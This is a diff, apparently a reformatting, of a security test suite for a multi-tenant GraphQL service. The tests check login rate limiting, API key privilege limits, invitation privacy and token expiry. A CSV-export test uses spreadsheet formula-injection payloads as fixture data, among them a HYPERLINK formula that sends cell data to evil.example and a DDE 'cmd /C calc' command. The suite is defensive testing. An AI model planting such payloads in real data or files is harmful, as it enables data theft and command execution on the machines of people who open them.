@@ -77,7 +77,8 @@ function expectRateLimited(answer: Answer): number {
 const LOGIN_MUTATION = `mutation ($input: LoginInput!) { login(input: $input) { token errors { code } } }`;
 const login = (email: string, password: string, tenantSlug: string, address: string, url?: string) =>
   post(LOGIN_MUTATION, { input: { email, password, tenantSlug } }, { address, url });
-const loginCode = (answer: Answer) => codeOf(answer) ?? answer.body.data?.login?.errors?.[0]?.code ?? (answer.body.data?.login?.token ? 'OK' : null);
+const loginCode = (answer: Answer) =>
+  codeOf(answer) ?? answer.body.data?.login?.errors?.[0]?.code ?? (answer.body.data?.login?.token ? 'OK' : null);
 const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
 let addresses = 0;
 /** A fresh client address, so that only the account's limit is at play. */
@@ -123,7 +124,9 @@ describe('password guessing', () => {
     const second: RunningApp = await startApp(testConfig(server.ownerUrl, LIMITS), pino({ level: 'silent' }), { clock: server.clock });
     try {
       const burst = await Promise.all(
-        Array.from({ length: 20 }, (_, i) => login(bystander.email, `burst-${i}`, 'guessing', `10.0.1.${i}`, i % 2 ? second.url : server.url)),
+        Array.from({ length: 20 }, (_, i) =>
+          login(bystander.email, `burst-${i}`, 'guessing', `10.0.1.${i}`, i % 2 ? second.url : server.url),
+        ),
       );
       const checked = burst.filter((a) => loginCode(a) === 'INVALID_CREDENTIALS').length;
       expect(checked).toBe(LOGIN.accountFailures + 1);
@@ -136,7 +139,8 @@ describe('password guessing', () => {
   it('one address guessing many accounts is stopped too, without locking those accounts out elsewhere', async () => {
     const [admin] = await server.ownerQuery(`SELECT email FROM users WHERE email LIKE 'admin-%@guessing.test'`);
     const answers: Answer[] = [];
-    for (let i = 0; i < LOGIN.addressFailures + 3; i += 1) answers.push(await login(`nobody-${i}@guessing.test`, 'guess', 'guessing', '10.0.2.1'));
+    for (let i = 0; i < LOGIN.addressFailures + 3; i += 1)
+      answers.push(await login(`nobody-${i}@guessing.test`, 'guess', 'guessing', '10.0.2.1'));
     expect(answers.slice(0, LOGIN.addressFailures).map(loginCode)).toEqual(Array(LOGIN.addressFailures).fill('INVALID_CREDENTIALS'));
     for (const refused of answers.slice(LOGIN.addressFailures)) expectRateLimited(refused);
     // The address is blocked for a real account too; the same account from another address is fine.
@@ -277,11 +281,15 @@ describe('flooding the public operations', () => {
       );
     const fromA: Answer[] = [];
     for (let i = 0; i < 7; i += 1) fromA.push(await answer('10.3.0.1'));
-    expect(fromA.slice(0, 5).map((a) => a.body.data?.answerSatisfactionSurvey?.errors?.[0]?.code)).toEqual(Array(5).fill('ILLEGAL_TRANSITION'));
+    expect(fromA.slice(0, 5).map((a) => a.body.data?.answerSatisfactionSurvey?.errors?.[0]?.code)).toEqual(
+      Array(5).fill('ILLEGAL_TRANSITION'),
+    );
     for (const refused of fromA.slice(5)) expectRateLimited(refused);
     const fromB: Answer[] = [];
     for (let i = 0; i < 5; i += 1) fromB.push(await answer('10.3.0.2'));
-    expect(fromB.slice(0, 3).map((a) => a.body.data?.answerSatisfactionSurvey?.errors?.[0]?.code)).toEqual(Array(3).fill('ILLEGAL_TRANSITION'));
+    expect(fromB.slice(0, 3).map((a) => a.body.data?.answerSatisfactionSurvey?.errors?.[0]?.code)).toEqual(
+      Array(3).fill('ILLEGAL_TRANSITION'),
+    );
     for (const refused of fromB.slice(3)) expectRateLimited(refused);
   });
 });
@@ -298,7 +306,7 @@ describe('API keys act for their creator, never with more', () => {
     creator = await inviteMember(server, tenant, 'key-creator', ['tenant-admin']);
   });
 
-  it("a key stops working when its creator is removed from the tenant, and so do the keys it minted", async () => {
+  it('a key stops working when its creator is removed from the tenant, and so do the keys it minted', async () => {
     const key = (await createKey(creator.token, ['tenant-admin'])).data.createApiKey.secret as string;
     expect((await post(`{ tenant { slug } }`, {}, { token: key })).body.data.tenant.slug).toBe('keys');
     const minted = (await createKey(key, ['tenant-admin'])).data.createApiKey.secret as string;
@@ -316,10 +324,16 @@ describe('API keys act for their creator, never with more', () => {
       expect(refused.body.errors![0].message).toMatch(/creator/);
     }
     // Nor can it bring its creator back, or make an administrator key.
-    const reinvite = await post(INVITE, { input: { email: 'key-creator@keys.test', name: 'Back', roles: ['tenant-admin'] } }, { token: key });
+    const reinvite = await post(
+      INVITE,
+      { input: { email: 'key-creator@keys.test', name: 'Back', roles: ['tenant-admin'] } },
+      { token: key },
+    );
     expect(codeOf(reinvite)).toBe('UNAUTHENTICATED');
     expect(codeOf(await post(CREATE_KEY, { roles: ['tenant-admin'] }, { token: key }))).toBe('UNAUTHENTICATED');
-    const members = await server.ownerQuery(`SELECT count(*)::int AS n FROM memberships m JOIN users u ON u.id = m.user_id WHERE u.email = 'key-creator@keys.test'`);
+    const members = await server.ownerQuery(
+      `SELECT count(*)::int AS n FROM memberships m JOIN users u ON u.id = m.user_id WHERE u.email = 'key-creator@keys.test'`,
+    );
     expect(members[0].n).toBe(0);
   });
 
@@ -337,7 +351,11 @@ describe('API keys act for their creator, never with more', () => {
     );
     expect(set.data.setMemberRoles.errors).toEqual([]);
     expect(codeOf(await post(CREATE_KEY, { roles: ['tenant-admin'] }, { token: key }))).toBe('FORBIDDEN');
-    const invite = await post(INVITE, { input: { email: 'new-admin@keys.test', name: 'New admin', roles: ['tenant-admin'] } }, { token: key });
+    const invite = await post(
+      INVITE,
+      { input: { email: 'new-admin@keys.test', name: 'New admin', roles: ['tenant-admin'] } },
+      { token: key },
+    );
     expect(codeOf(invite)).toBe('FORBIDDEN');
     // What the creator still holds, the key still has; the rest is gone.
     expect((await post(`{ me { roles } }`, {}, { token: key })).body.data.me.roles).toEqual(['supervisor']);
@@ -349,7 +367,9 @@ describe('API keys act for their creator, never with more', () => {
   it('through a key, only roles the key holds can be handed on, to a key or to a member', async () => {
     const key = (await createKey(tenant.adminToken, ['tenant-admin'])).data.createApiKey.secret as string;
     expect(codeOf(await post(CREATE_KEY, { roles: ['tenant-admin', 'supervisor'] }, { token: key }))).toBe('FORBIDDEN');
-    expect(codeOf(await post(INVITE, { input: { email: 'sup@keys.test', name: 'Sup', roles: ['supervisor'] } }, { token: key }))).toBe('FORBIDDEN');
+    expect(codeOf(await post(INVITE, { input: { email: 'sup@keys.test', name: 'Sup', roles: ['supervisor'] } }, { token: key }))).toBe(
+      'FORBIDDEN',
+    );
     const same = await createKey(key, ['tenant-admin']);
     expect(same.data.createApiKey.errors).toEqual([]);
     expect(await server.ownerQuery(`SELECT 1 FROM users WHERE email = 'sup@keys.test'`)).toEqual([]);
@@ -369,7 +389,7 @@ describe('the monthly CSV', () => {
           description: 'A complaint with a formula for a name',
           demands: ['APOLOGY'],
           complainant: { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', phone: '13700000001' },
-          asset: { name: '@SUM(1+1)', model: '-2+3+cmd|\' /C calc\'!A0' },
+          asset: { name: '@SUM(1+1)', model: "-2+3+cmd|' /C calc'!A0" },
         },
       },
       { address: '10.4.0.1' },
@@ -407,7 +427,11 @@ describe('inviting a person who already has an account', () => {
     await server.ownerQuery(`UPDATE users SET display_name = 'Name only home-org knows' WHERE email = 'private-person@home-org.test'`);
     const asking = await server.createTenant('asking-org');
 
-    const invited = await post(INVITE, { input: { email: 'private-person@home-org.test', name: 'As typed', roles: ['supervisor'] } }, { token: asking.adminToken });
+    const invited = await post(
+      INVITE,
+      { input: { email: 'private-person@home-org.test', name: 'As typed', roles: ['supervisor'] } },
+      { token: asking.adminToken },
+    );
     expect(invited.body.errors).toBeUndefined();
     expect(JSON.stringify(invited.body)).not.toContain('Name only home-org knows');
     expect(JSON.stringify(invited.body)).not.toContain(fromGlobalId(person.userId, 'User')!.id);
@@ -415,7 +439,13 @@ describe('inviting a person who already has an account', () => {
     const payload = invited.body.data.inviteUser;
     expect(payload).toEqual({
       membership: null,
-      invitation: { id: expect.any(String), name: 'As typed', email: 'private-person@home-org.test', roles: ['supervisor'], tenant: { slug: 'asking-org' } },
+      invitation: {
+        id: expect.any(String),
+        name: 'As typed',
+        email: 'private-person@home-org.test',
+        roles: ['supervisor'],
+        tenant: { slug: 'asking-org' },
+      },
       temporaryPassword: null,
       errors: [],
     });
@@ -439,9 +469,15 @@ describe('inviting a person who already has an account', () => {
       { id: payload.invitation.id },
       { token: person.token },
     );
-    expect(accepted.body.data.acceptInvitation).toEqual({ membership: { tenant: { slug: 'asking-org' }, roles: ['supervisor'] }, errors: [] });
+    expect(accepted.body.data.acceptInvitation).toEqual({
+      membership: { tenant: { slug: 'asking-org' }, roles: ['supervisor'] },
+      errors: [],
+    });
     const after = await post(`{ members(first: 50) { edges { node { user { email } roles } } } }`, {}, { token: asking.adminToken });
-    expect(after.body.data.members.edges.map((e: any) => e.node)).toContainEqual({ user: { email: 'private-person@home-org.test' }, roles: ['supervisor'] });
+    expect(after.body.data.members.edges.map((e: any) => e.node)).toContainEqual({
+      user: { email: 'private-person@home-org.test' },
+      roles: ['supervisor'],
+    });
     expect((await post(`{ me { pendingInvitations { id } } }`, {}, { token: person.token })).body.data.me.pendingInvitations).toEqual([]);
     expect(await membershipsThere()).toEqual([{ roles: ['supervisor'] }]);
   });
@@ -450,13 +486,22 @@ describe('inviting a person who already has an account', () => {
     const home = await server.createTenant('home-two');
     const person = await inviteMember(server, home, 'reluctant', ['tenant-admin']);
     const asking = await server.createTenant('asking-two');
-    const invited = await post(INVITE, { input: { email: 'reluctant@home-two.test', name: 'R', roles: ['agent'] } }, { token: asking.adminToken });
+    const invited = await post(
+      INVITE,
+      { input: { email: 'reluctant@home-two.test', name: 'R', roles: ['agent'] } },
+      { token: asking.adminToken },
+    );
     const id = invited.body.data.inviteUser.invitation.id;
-    const key = (await post(`mutation { createApiKey(input: { name: "k", roles: ["tenant-admin"] }) { secret } }`, {}, { token: person.token })).body.data
-      .createApiKey.secret;
+    const key = (
+      await post(`mutation { createApiKey(input: { name: "k", roles: ["tenant-admin"] }) { secret } }`, {}, { token: person.token })
+    ).body.data.createApiKey.secret;
     const ACCEPT = `mutation ($id: ID!) { acceptInvitation(input: { id: $id }) { membership { roles } errors { code } } }`;
     expect(codeOf(await post(ACCEPT, { id }, { token: key }))).toBe('FORBIDDEN');
-    const declined = await post(`mutation ($id: ID!) { declineInvitation(input: { id: $id }) { declinedId errors { code } } }`, { id }, { token: person.token });
+    const declined = await post(
+      `mutation ($id: ID!) { declineInvitation(input: { id: $id }) { declinedId errors { code } } }`,
+      { id },
+      { token: person.token },
+    );
     expect(declined.body.data.declineInvitation).toEqual({ declinedId: id, errors: [] });
     expect((await post(ACCEPT, { id }, { token: person.token })).body.data.acceptInvitation.errors).toEqual([{ code: 'NOT_FOUND' }]);
     const rows = await server.ownerQuery(
@@ -471,7 +516,11 @@ describe('tokens', () => {
   it('a signed token without exp is refused', async () => {
     const [user] = await server.ownerQuery(`SELECT u.id, m.tenant_id FROM users u JOIN memberships m ON m.user_id = u.id LIMIT 1`);
     const key = new TextEncoder().encode(TEST_TOKEN_SECRET);
-    const claims = new SignJWT({ tid: user.tenant_id }).setProtectedHeader({ alg: 'HS256' }).setSubject(user.id).setIssuer('redress').setIssuedAt();
+    const claims = new SignJWT({ tid: user.tenant_id })
+      .setProtectedHeader({ alg: 'HS256' })
+      .setSubject(user.id)
+      .setIssuer('redress')
+      .setIssuedAt();
     const forever = await claims.sign(key);
     const refused = await post(`{ me { user { id } } }`, {}, { token: forever });
     expect(codeOf(refused)).toBe('UNAUTHENTICATED');
